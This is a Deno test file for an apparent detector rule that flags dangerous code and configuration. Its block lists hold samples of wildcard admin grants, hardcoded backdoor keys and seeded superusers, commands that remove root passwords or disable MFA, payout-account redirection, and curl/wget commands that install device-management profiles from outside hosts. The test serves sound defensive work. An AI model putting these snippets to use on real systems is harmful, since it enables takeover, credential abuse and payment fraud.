import assert from "node:assert/strict";
import type { FieldContext } from "../types.ts";
import { r38Mechanism } from "./_code_r38.ts";

const input = { stage: "input" } as FieldContext;
const hit = (s: string): boolean => r38Mechanism(s, input, '"x"') !== undefined;

const CASES: { name: string; block: string[]; pass: string[] }[] = [
  {
    name: "administrator rights given to every caller",
    block: [
      `{"path":"/_opendistro/_security/api/rolesmapping/security_manager","body":{"users":["*"]}}`,
      `{"kind":"ClusterRoleBinding","roleRef":{"name":"cluster-admin"},"subjects":["*"]}`,
      `{"role":"admin","members":["*"],"note":"temporary"}`,
      "CREATE FUNCTION ops.run_any(cmd text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE cmd; END $$;\nGRANT EXECUTE ON FUNCTION ops.run_any(text) TO PUBLIC;",
      "CREATE FUNCTION r(q text) RETURNS SETOF record SECURITY DEFINER LANGUAGE plpgsql AS $f$ BEGIN RETURN QUERY EXECUTE 'select * from ' || q; END $f$; GRANT ALL ON FUNCTION r(text) TO public;",
      `{"Statement":[{"Effect":"Allow","Action":["iam:PutUserPolicy","iam:CreateAccessKey"],"Resource":"*"}]}`,
      `{"Statement":[{"Effect":"Allow","Action":["iam:AttachGroupPolicy","iam:AddUserToGroup","s3:List*"],"Resource":["*"]}]}`,
    ],
    pass: [
      `{"path":"/_plugins/_security/api/rolesmapping/readall","body":{"users":["reporting-svc"]}}`,
      `{"role":"viewer","members":["*"]}`,
      "CREATE FUNCTION ops.count_rows() RETURNS bigint SECURITY DEFINER LANGUAGE sql AS $$ SELECT count(*) FROM orders $$;\nGRANT EXECUTE ON FUNCTION ops.count_rows() TO reporting;",
      `{"Statement":[{"Effect":"Allow","Action":["iam:GetRole","iam:ListRoles"],"Resource":"*"}]}`,
      `{"Statement":[{"Effect":"Allow","Action":["iam:PassRole"],"Resource":"arn:aws:iam::123456789012:role/lambda-exec"}]}`,
    ],
  },
  {
    name: "a standing way in for whoever knows a fixed value",
    block: [
      "app.use((req, res, next) => { if (req.headers['x-support-key'] === 'k9-open-door') { req.user = { role: 'admin' }; return next(); } verify(req, res, next); });",
      "if request.args.get('debug_token') == 'letmein2025':\n    g.user = User(id=0, is_admin=True)\n    return",
      'if r.Header.Get("X-Ops") == "q7-bypass" { ctx.roles = "superuser" }',
      "def seed(apps, schema):\n    U = apps.get_model('auth','User')\n    u = U(username='vendor.ops', is_superuser=True, is_staff=True)\n    u.password = make_password('Vendor#2025!')\n    u.save()",
      "User.objects.create_superuser('helpdesk', 'help@outside-it.example', 'Helpdesk!2025')",
      'openssl req -new -key c.key -subj "/CN=ext-dev/O=system:masters" -out c.csr && kubectl certificate approve ext-dev',
      "kubectl create clusterrolebinding vendor --group=system:masters --user=vendor@example.org",
    ],
    pass: [
      "if (req.headers['x-request-id'] === undefined) { req.id = uuid(); }",
      "if (req.query.lang === 'fr') { res.locals.locale = 'fr'; }",
      "if os.environ.get('DJANGO_ENV') == 'dev':\n    call_command('createsuperuser', interactive=True)",
      "u.set_password(form.cleaned_data['password']); u.is_superuser = False; u.save()",
      "kubectl describe clusterrolebinding ops-team | grep -i system:masters",
    ],
  },
  {
    name: "sign-in safeguards switched off wholesale",
    block: [
      "sed -i 's/^#\\?PermitEmptyPasswords.*/PermitEmptyPasswords yes/' /etc/ssh/sshd_config && systemctl reload sshd",
      "- name: drop root password\n  command: passwd -d root",
      "Get-MgIdentityConditionalAccessPolicy -All | % { Update-MgIdentityConditionalAccessPolicy -ConditionalAccessPolicyId $_.Id -State disabled }",
      "Invoke-MgGraphRequest -Method PATCH -Uri 'v1.0/policies/identitySecurityDefaultsEnforcementPolicy' -Body '{\"isEnabled\": false}'",
      "npm access set mfa=none @acme/ui-kit",
    ],
    pass: [
      "PermitEmptyPasswords no\nPermitRootLogin prohibit-password",
      "Get-MgIdentityConditionalAccessPolicy -All | Select DisplayName, State",
      "npm access set mfa=publish @acme/ui-kit",
      "Invoke-MgGraphRequest -Method GET -Uri 'v1.0/policies/identitySecurityDefaultsEnforcementPolicy'",
      "passwd -l root # lock the root password",
    ],
  },
  {
    name: "a new default payout account set from code",
    block: [
      "import adyen\nadyen.balance.payout_methods.create(\n    bank_account={'iban': 'NL91ABNA0417164300'},\n    default=True)",
      "stripe.Account.create_external_account(acct,\n  external_account={'object': 'bank_account',\n    'account_number': '000111222333', 'routing_number': '110000000'},\n  default_for_currency=True)",
      "client.recipients.update(rid,\n  bank_account={'iban': 'GB33BUKB20201555555555'},\n  default=True)",
    ],
    pass: [
      "stripe.Account.create_external_account(acct, external_account='btok_gb', default_for_currency=True)",
      "for b in stripe.Account.list_external_accounts(acct):\n    print(b.last4, b.default_for_currency)",
      "validate_iban(form['iban'])\nsave(default=True)",
    ],
  },
  {
    name: "a device enrolled into outside management",
    block: [
      "curl -sL https://enroll.helpdesk-apple.example/p/office.mobileconfig -o /tmp/p.mobileconfig; open /tmp/p.mobileconfig",
      "wget -q https://mdm.partner-it.example/acme.mobileconfig -O ~/Downloads/acme.mobileconfig && profiles install -path ~/Downloads/acme.mobileconfig",
      "curl -o x.mobileconfig https://a.example.net/x.mobileconfig && open -a 'System Settings' x.mobileconfig",
    ],
    pass: [
      "profiles show -type enrollment",
      "open ~/Downloads/wifi-guest.mobileconfig",
      "curl -s https://docs.example.com/guides/mobileconfig-keys.html",
    ],
  },
];

for (const c of CASES) {
  Deno.test(`r38 code: ${c.name}`, () => {
    for (const s of c.block) assert.ok(hit(s), `should block: ${s.slice(0, 160)}`);
    for (const s of c.pass) assert.ok(!hit(s), `should pass: ${s.slice(0, 160)}`);
  });
}

Deno.test("r38 code: output stage and short values are skipped", () => {
  const s = "npm access set mfa=none @acme/ui-kit";
  assert.equal(r38Mechanism(s, { stage: "output" } as FieldContext, '"x"'), undefined);
  assert.equal(r38Mechanism("mfa=none", input, '"x"'), undefined);
});
